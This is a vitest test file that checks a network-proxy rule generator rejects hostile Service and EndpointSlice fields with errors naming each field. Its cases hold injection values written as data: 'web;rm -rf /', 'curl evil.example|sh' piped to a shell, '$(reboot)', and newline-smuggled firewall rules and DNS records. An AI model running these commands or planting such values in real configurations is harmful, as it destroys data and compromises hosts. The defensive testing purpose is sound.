import { InvalidError } from '@flotilla/core';
import { describe, expect, it } from 'vitest';
import { iptablesRules } from '../src/iptables/iptables-rules.js';
import { ipvsRules } from '../src/ipvs/ipvs-rules.js';
import { nftablesRules } from '../src/nftables/nftables-rules.js';
import type { ProxyInput } from '../src/state/proxy-state.js';
import { endpointSlice, service } from './support/fixtures.js';

const node = { nodeName: 'node-1', nodeIPs: ['198.18.0.1'] };
const good = (): ProxyInput => ({
  ...node,
  services: [service('ns1', 'web', '10.0.0.1', [{ name: 'http', port: 80 }])],
  endpointSlices: [endpointSlice('ns1', 'web', [{ name: 'http', port: 8080 }], [{ ip: '10.1.0.1' }])],
});

type Mutation = (input: ProxyInput) => ProxyInput;
const withService =
  (patch: (s: ProxyInput['services'][number]) => void): Mutation =>
  (input) => {
    const s = structuredClone(input.services[0]);
    patch(s);
    return { ...input, services: [s] };
  };
const withSlice =
  (patch: (s: ProxyInput['endpointSlices'][number]) => void): Mutation =>
  (input) => {
    const s = structuredClone(input.endpointSlices[0]);
    patch(s);
    return { ...input, endpointSlices: [s] };
  };

const cases: [string, Mutation, string, string][] = [
  [
    'a service name with a shell command',
    withService((s) => {
      s.metadata.name = 'web;rm -rf /';
    }),
    'metadata.name',
    'web;rm -rf /',
  ],
  [
    'a namespace with a newline (rule injection)',
    withService((s) => {
      s.metadata.namespace = 'ns1\n-A INPUT -j ACCEPT';
    }),
    'metadata.namespace',
    '-A INPUT',
  ],
  [
    'a port name with a quote (comment escape)',
    withService((s) => {
      s.spec.ports![0].name = 'http" -j ACCEPT "';
    }),
    'spec.ports[0].name',
    'ACCEPT',
  ],
  [
    'a ClusterIP with extra text',
    withService((s) => {
      s.spec.clusterIP = '10.0.0.1 -j DROP';
    }),
    'spec.clusterIP',
    '-j DROP',
  ],
  [
    'an IPv6 ClusterIP',
    withService((s) => {
      s.spec.clusterIP = 'fd00::1';
    }),
    'spec.clusterIP',
    'fd00',
  ],
  [
    'an out-of-range port',
    withService((s) => {
      s.spec.ports![0].port = 70000;
    }),
    'spec.ports[0].port',
    '70000',
  ],
  [
    'a fractional port',
    withService((s) => {
      s.spec.ports![0].port = 80.5;
    }),
    'spec.ports[0].port',
    '80.5',
  ],
  [
    'an unknown protocol',
    withService((s) => {
      (s.spec.ports![0] as { protocol: string }).protocol = 'ICMP';
    }),
    'spec.ports[0].protocol',
    'ICMP',
  ],
  [
    'an external IP with a CIDR',
    withService((s) => {
      s.spec.externalIPs = ['198.18.0.0/16'];
    }),
    'spec.externalIPs[0]',
    '198.18.0.0/16',
  ],
  [
    'an affinity timeout of zero',
    withService((s) => {
      s.spec.sessionAffinity = 'ClientIP';
      s.spec.sessionAffinityConfig = { clientIP: { timeoutSeconds: 0 } };
    }),
    'spec.sessionAffinityConfig.clientIP.timeoutSeconds',
    'between 1 and 86400',
  ],
  [
    'a source range with a space',
    withService((s) => {
      s.spec.type = 'LoadBalancer';
      s.spec.loadBalancerSourceRanges = ['0.0.0.0/0 -j ACCEPT'];
    }),
    'spec.loadBalancerSourceRanges[0]',
    'ACCEPT',
  ],
  [
    'an externalName with a shell command',
    withService((s) => {
      s.spec = { type: 'ExternalName', externalName: 'example.com;curl evil.example|sh' };
    }),
    'spec.externalName',
    'curl evil.example|sh',
  ],
  [
    'an externalName with a newline (record injection)',
    withService((s) => {
      s.spec = { type: 'ExternalName', externalName: 'example.com\nevil.example. IN A 198.18.0.66' };
    }),
    'spec.externalName',
    'IN A 198.18.0.66',
  ],
  [
    'an endpoint address with a newline',
    withSlice((s) => {
      s.endpoints[0].addresses = ['10.1.0.1\nCOMMIT'];
    }),
    'endpoints[0].addresses[0]',
    'COMMIT',
  ],
  [
    'an endpoint port of zero',
    withSlice((s) => {
      s.ports![0].port = 0;
    }),
    'ports[0].port',
    '0',
  ],
  [
    'an endpoint node name with $()',
    withSlice((s) => {
      s.endpoints[0].nodeName = '$(reboot)';
    }),
    'endpoints[0].nodeName',
    '$(reboot)',
  ],
];

describe('hostile input never reaches rule text', () => {
  it.each(cases)('rejects %s with an error naming the field', (_, mutate, field, shown) => {
    const input = mutate(good());
    for (const generate of [iptablesRules, nftablesRules, ipvsRules]) {
      let error: unknown;
      try {
        generate(input);
      } catch (err) {
        error = err;
      }
      expect(error).toBeInstanceOf(InvalidError);
      const invalid = error as InvalidError;
      expect(invalid.fields.map((f) => f.field).some((f) => f.endsWith(field))).toBe(true);
      // The bad value is shown JSON-escaped, so a newline can never split the message either.
      expect(invalid.message).toContain(JSON.stringify(shown).slice(1, -1).split('\\n')[0]);
      expect(invalid.message).not.toContain('\n');
    }
  });

  it.each([
    ['a node name with spaces', { nodeName: 'node 1' }, 'nodeName'],
    ['a node IP that is a hostname', { nodeIPs: ['localhost'] }, 'nodeIPs[0]'],
    ['a cluster CIDR without a prefix length', { clusterCIDR: '10.244.0.0' }, 'clusterCIDR'],
    ['a masquerade bit out of range', { masqueradeBit: 40 }, 'masqueradeBit'],
  ])('rejects %s', (_, patch, field) => {
    const error = (() => {
      try {
        iptablesRules({ ...good(), ...patch });
      } catch (err) {
        return err;
      }
    })();
    expect(error).toBeInstanceOf(InvalidError);
    expect((error as InvalidError).fields.map((f) => f.field)).toEqual([field]);
  });

  it('names every bad field of one service at once', () => {
    const input = withService((s) => {
      s.metadata.name = 'Web';
      s.spec.ports![0].port = -1;
      s.spec.externalIPs = ['x'];
    })(good());
    const error = (() => {
      try {
        iptablesRules(input);
      } catch (err) {
        return err as InvalidError;
      }
    })();
    expect(error?.fields.map((f) => f.field)).toEqual(['metadata.name', 'spec.externalIPs[0]', 'spec.ports[0].port']);
  });
});
